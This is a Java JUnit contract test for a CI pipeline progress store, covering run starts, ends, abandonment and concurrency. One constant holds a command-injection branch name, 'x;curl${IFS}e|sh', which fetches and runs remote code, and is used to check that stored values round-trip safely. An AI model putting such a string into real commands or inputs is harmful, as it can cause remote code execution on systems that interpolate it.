package dev.signalbox.core.route;

import static org.assertj.core.api.Assertions.assertThat;

import dev.signalbox.core.release.PipelineId;
import dev.signalbox.core.release.Push;
import dev.signalbox.core.release.Ref;
import dev.signalbox.core.release.Repository;
import dev.signalbox.core.release.TriggerId;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** What every account of progress promises. That in memory and that in DynamoDB both run these. */
public abstract class ProgressContract {
  private static final PipelineId API = Shop.start("api", Shop.TOOLS).target().pipeline();
  private static final PipelineId WEB = Shop.start("web", Shop.TOOLS).target().pipeline();
  private static final Ref HOSTILE = Ref.branch("x;curl${IFS}e|sh #\"'ü🚀");

  protected Progress progress = new ProgressInMemory();

  protected abstract Progress emptyProgress();

  @BeforeEach
  final void startEmpty() {
    progress = emptyProgress();
  }

  private static Progress.Line line(PipelineId pipeline, Ref ref) {
    return new Progress.Line(pipeline, Shop.REPOSITORY, ref);
  }

  private static Push push(int commit) {
    return Shop.push(Ref.branch("main"), Optional.empty(), Optional.of(Shop.commit(commit)));
  }

  private static TriggerId trigger(int commit) {
    return TriggerId.of(API, push(commit));
  }

  private static Baseline baseline(int from, int to) {
    return new Baseline(
        Baseline.Rung.OLD_COMMIT,
        Optional.of(from).filter(f -> f > 0).map(Shop::commit),
        Shop.commit(to),
        from == 0);
  }

  private boolean starts(Progress.Line line, int commit) {
    return progress.started(line, trigger(commit), baseline(commit - 1, commit));
  }

  private Standing standing(Progress.Line line) {
    return progress.of(line.repository(), line.ref()).getOrDefault(line.pipeline(), Standing.NONE);
  }

  private static final Progress.Line MAIN = line(API, Ref.branch("main"));

  @Test
  void whatWasNeverStartedHasNoStanding() {
    assertThat(progress.of(Shop.REPOSITORY, Ref.branch("main"))).isEmpty();
  }

  @Test
  void everythingThatIsKeptComesBackAsItWas() {
    var line = line(API, HOSTILE);
    Standing expected = Standing.NONE;
    for (int commit = 1; commit <= 4; commit++) {
      starts(line, commit);
      expected = expected.started(trigger(commit), baseline(commit - 1, commit));
    }
    progress.ended(line, trigger(1), true);
    progress.ended(line, trigger(2), false);
    expected = expected.succeeded(trigger(1)).failed(trigger(2));

    assertThat(standing(line)).isEqualTo(expected);
  }

  @Test
  void pipelinesRefsAndRepositoriesHaveStandingsOfTheirOwn() {
    starts(MAIN, 1);
    starts(line(WEB, Ref.branch("main")), 2);
    starts(line(API, Ref.tag("main")), 3);
    var elsewhere =
        new Repository(Shop.REPOSITORY.account(), Shop.REPOSITORY.region(), "shop\nrefs");
    progress.started(
        new Progress.Line(API, elsewhere, Ref.branch("main")), trigger(4), baseline(0, 4));

    Map<PipelineId, Standing> found = progress.of(Shop.REPOSITORY, Ref.branch("main"));

    assertThat(found).containsOnlyKeys(API, WEB);
    assertThat(standing(MAIN).last().orElseThrow().commit()).isEqualTo(Shop.commit(1));
  }

  @Test
  void aStartIsNewsOnce() {
    assertThat(starts(MAIN, 1)).isTrue();
    assertThat(starts(MAIN, 1)).isFalse();
    progress.ended(MAIN, trigger(1), true);
    assertThat(starts(MAIN, 1)).isFalse();
  }

  @Test
  void whatIsAbandonedIsNewsAgain() {
    progress.of(Shop.REPOSITORY, Ref.branch("main"));
    starts(MAIN, 1);
    progress.abandoned(MAIN, trigger(1));

    assertThat(standing(MAIN).open()).isEmpty();
    assertThat(standing(MAIN).owed()).isPresent();
    assertThat(starts(MAIN, 1)).isTrue();
  }

  @Test
  void whatIsForgottenIsNotOwed() {
    progress.forgotten(MAIN, trigger(1), Shop.commit(1));

    assertThat(standing(MAIN).owed()).isEmpty();
    assertThat(standing(MAIN).green().orElseThrow().commit()).isEqualTo(Shop.commit(1));
  }

  @Test
  void whatIsReadBeforeSomebodyElseWritesIsNoObstacleToWriting() {
    progress.of(Shop.REPOSITORY, Ref.branch("main"));
    starts(MAIN, 1);
    progress.of(Shop.REPOSITORY, Ref.branch("main"));
    progress.ended(MAIN, trigger(1), false);
    starts(MAIN, 2);
    starts(MAIN, 3);

    assertThat(standing(MAIN).open()).extracting(Standing.Run::number).containsExactly(2, 3);
  }

  @Test
  void ofManyWhoTellOneStartAtOnceItIsNewsToOne() throws InterruptedException {
    assertThat(allAtOnce(Stream.generate(() -> (Callable<Boolean>) () -> starts(MAIN, 1)).limit(8)))
        .filteredOn(news -> news)
        .hasSize(1);
    assertThat(standing(MAIN).open()).hasSize(1);
  }

  @Test
  void startsToldAtOnceAreAllKeptAndNumbered() throws InterruptedException {
    allAtOnce(IntStream.rangeClosed(1, 8).mapToObj(commit -> () -> starts(MAIN, commit)));

    assertThat(standing(MAIN).open())
        .extracting(Standing.Run::number)
        .containsExactly(1, 2, 3, 4, 5, 6, 7, 8);
  }

  /** Ends come twice, in any order, and failures of runs that were tried again among them. */
  @Test
  void inWhateverOrderAndHoweverOftenEndsAreToldTheyAmountToTheSame() {
    Set<Standing> results = new HashSet<>();
    for (int seed = 0; seed < 10; seed++) {
      var line = line(API, Ref.branch("order-" + seed));
      IntStream.rangeClosed(1, 4).forEach(commit -> starts(line, commit));
      List<Runnable> ends = new ArrayList<>();
      for (int twice = 0; twice < 2; twice++) {
        ends.add(() -> progress.ended(line, trigger(1), true));
        ends.add(() -> progress.ended(line, trigger(2), false));
        ends.add(() -> progress.ended(line, trigger(2), true));
        ends.add(() -> progress.ended(line, trigger(3), false));
      }
      Collections.shuffle(ends, new Random(seed));
      ends.forEach(Runnable::run);
      results.add(standing(line));
    }

    assertThat(results)
        .singleElement()
        .satisfies(standing -> {
          assertThat(standing.green().orElseThrow().commit()).isEqualTo(Shop.commit(2));
          assertThat(standing.open()).extracting(Standing.Run::number).containsExactly(4);
          assertThat(standing.owed()).hasValue(new Standing.Owed(Optional.of(Shop.commit(2))));
        });
  }

  private static <T> List<T> allAtOnce(Stream<Callable<T>> askers) throws InterruptedException {
    try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      return threads.invokeAll(askers.toList()).stream().map(Future::resultNow).toList();
    }
  }
}
